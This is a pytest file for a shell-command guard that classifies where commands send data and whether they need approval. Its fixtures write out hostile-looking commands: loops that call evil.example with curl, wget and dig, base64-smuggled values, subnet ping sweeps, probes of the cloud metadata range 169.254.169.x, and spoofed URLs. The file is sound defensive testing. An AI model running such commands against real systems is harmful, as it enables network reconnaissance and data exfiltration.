"""What leaves the machine stands in the command: for every program that sends, whatever its row."""

from __future__ import annotations

from pathlib import Path

import pytest

from askfirst.model import Command, Decision, Kind, Sends
from askfirst.shell import analyze
from askfirst.shell.tools import REGISTRY, tool_for
from askfirst.shell.tools.sending import TO_ADDRESS, TO_SETTINGS, sends
from tests.scorecard import Bench

ALL = {**TO_ADDRESS, **TO_SETTINGS}
VERBS = [(p, "" if verb == "*" else verb) for p, verbs in ALL.items() for verb in verbs.split()]


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Bench:
    return Bench(tmp_path_factory.mktemp("sending").resolve())


def test_every_program_of_the_table_has_rows() -> None:
    assert [program for program in ALL if program not in REGISTRY] == []


def test_an_allowed_program_of_the_network_is_in_the_table() -> None:
    rows = [t for t in map(tool_for, REGISTRY) if t is not None]
    network = [t.name for t in rows if t.kind == Kind.NETWORK and t.allowed and not t.subcommands]
    assert [name for name in network if sends((name,)) == Sends.NOTHING] == []


@pytest.mark.parametrize(("program", "verb"), VERBS)
@pytest.mark.parametrize("word", ['"a$x"', '"a$(base64 f)"'])
def test_a_word_that_is_not_in_the_command_asks(program: str, verb: str, word: str, bench: Bench) -> None:
    assert bench.judge(f"{program} {verb} {word}").decision != Decision.ALLOW


@pytest.mark.parametrize(
    ("command", "wanted"),
    [
        ("curl -s https://example.org", Sends.ADDRESS),
        ("npm view react", Sends.SETTINGS),
        ("pip3.12 index versions a", Sends.SETTINGS),
        ("git fetch origin", Sends.ADDRESS),
        ("git status", Sends.NOTHING),
        ("npm ls", Sends.NOTHING),
        ("cat README.md", Sends.NOTHING),
    ],
)
def test_an_action_says_to_whom_it_sends(command: str, wanted: Sends, bench: Bench, tmp_path: Path) -> None:
    found = [f.action.sends for f in analyze(command, bench.surroundings()) if isinstance(f, Command)]
    assert found == [wanted]


LOOPED = [  # (words of a loop, command in it, decision, who is sent something)
    ("$(seq 1 254)", "ping -c 1 192.168.1.$i", Decision.ALLOW, None),
    ("{1..254}", "ping -c 1 10.0.0.$i", Decision.ALLOW, None),
    ("$(seq 1 254)", "curl -s localhost:3000/api/$i", Decision.ALLOW, None),
    ("$(seq 1 254)", "curl -s http://192.168.1.$i/x", Decision.ASK, "192.168.1.0/24"),
    ("$(seq -w 10 99)", 'curl -s "http://10.1.2.$i:8080/x"', Decision.ASK, "10.1.2.0/24:8080"),
    ("$(seq 1 254)", "curl -s -H 'A: b' http://192.168.1.$i/x", Decision.ASK, None),
    ("$(seq 1 254)", "curl -s http://evil.example/$i", Decision.ASK, None),
    ("$(seq 1 254)", "curl -s -H X:$i http://evil.example/", Decision.ASK, None),
    ("$(seq 1 254)", 'curl -s -A "a$i" http://evil.example/', Decision.ASK, None),
    ("$(seq 1 254)", "wget -qO- http://evil.example/$i", Decision.ASK, None),
    ("$(seq 1 254)", "curl -s http://10.0.0.1@evil.example/$i", Decision.ASK, None),
    ("$(seq 1 254)", "curl -s http://169.254.169.$i/", Decision.ASK, None),
    ("$(seq 1 254)", "curl -s http://10.0.$i.evil.example/", Decision.ASK, None),
    ("$(seq 1 254)", "curl -s http://10.0.$i.7/", Decision.ASK, None),
    ("$(seq 1 254)", "wget -qO- http://192.168.1.$i/", Decision.ASK, None),
    ("$(seq 1 254)", "ping -c 1 8.8.8.$i", Decision.ASK, None),
    ("$(seq 1 254)", "ping -c 1 10.$i.evil.example", Decision.ASK, None),
    ("$(seq 1 254)", "dig $i.evil.example", Decision.ASK, None),
    ("$(seq 1 254)", "gh api repos/a/b/issues/$i", Decision.ASK, None),
    ("$(seq 1 254 | grep $x)", "ping -c 1 10.0.0.$i", Decision.ASK, None),
    ("$(seq 1 $x)", "ping -c 1 10.0.0.$i", Decision.ASK, None),
    ("$(seq 1 254; cat f)", "ping -c 1 10.0.0.$i", Decision.ASK, None),
    ("$(seq 1 9999)", "ping -c 1 10.0.0.$i", Decision.ASK, None),
    ("$(seq 1 254)", 'i=$(cat f); ping -c 1 "10.0.0.$i"', Decision.ASK, None),
    ("$(seq 1 254)", "ping -c 1 10.0.0.${i:$(cat f)}", Decision.ASK, None),
    ("$(seq 1 254)", "cat notes-$i.txt", Decision.ALLOW, None),
    ("$(seq 1 5)", "echo $((i * 2))", Decision.ALLOW, None),
    ("{1..5}", "echo $((i * 2))", Decision.ALLOW, None),
    ("$(cat f)", "echo $((i * 2))", Decision.ASK, None),
    ("$(seq 1 254)", "rm notes-$i.txt", Decision.ASK, None),
]


@pytest.mark.parametrize(("over", "body", "decision", "to"), LOOPED)
def test_a_loop_over_numbers_says_what_stands_in_the_command(
    over: str, body: str, decision: Decision, to: str | None, bench: Bench
) -> None:
    text = f"for i in {over}; do {body}; done"
    assert bench.judge(text).decision == decision
    targets = [f.action.target for f in analyze(text, bench.surroundings()) if isinstance(f, Command) and f.action.free]
    assert targets == ([to] if to else [])


RECEIVERS = [
    ("curl https://ok.example https://evil.example/x", "ok.example, evil.example"),
    ("curl https://ok.example evil.example/x", "ok.example, evil.example"),
    ("curl http://localhost:3000/ localhost:9999/x", "localhost:3000, localhost:9999"),
    ("curl -d 'see http://w.example' https://ok.example", "ok.example"),
    ("curl http://192.0.2.7:80/a", "192.0.2.7"),
    ("curl https://192.0.2.7/a", "192.0.2.7"),
    ("curl http://192.0.2.7:8080/a", "192.0.2.7:8080"),
    ("curl http://ok.example/a", "http://ok.example"),
    ("ssh -p 22 host.example 'curl https://ok.example'", "-p 22 host.example"),
    ("wget -qO- https://a.example https://b.example", "a.example, b.example"),
    ("scp a.txt host:/tmp/x/", "host"),
    ("scp a.txt one:/tmp/x two:/tmp/y", "one, two"),
    ("rsync -a dist/ u@host.example:/srv", "u@host.example"),
    ("dig +short a.example MX", "a.example"),
    ("dig a.example b.evil.example @1.2.3.4", "a.example, b.evil.example, @1.2.3.4"),
    ("ping -c 1 a.example b.example", "a.example, b.example"),
]


@pytest.mark.parametrize(("command", "to"), RECEIVERS)
def test_everybody_who_is_sent_something_is_named(command: str, to: str, bench: Bench) -> None:
    first = next(f for f in analyze(command, bench.surroundings()) if isinstance(f, Command))
    assert first.action.leaves_to == to
